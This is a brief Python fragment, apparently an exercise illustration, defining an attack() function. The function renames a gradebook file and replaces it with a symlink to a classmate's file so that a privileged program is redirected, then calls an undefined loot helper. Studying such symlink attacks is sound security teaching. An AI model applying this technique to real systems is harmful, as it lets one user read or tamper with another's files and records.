import os


def attack():
    os.rename(GRADEBOOK, GRADEBOOK + ".old")
    os.symlink(CLASSMATE, GRADEBOOK)
    loot("a link")
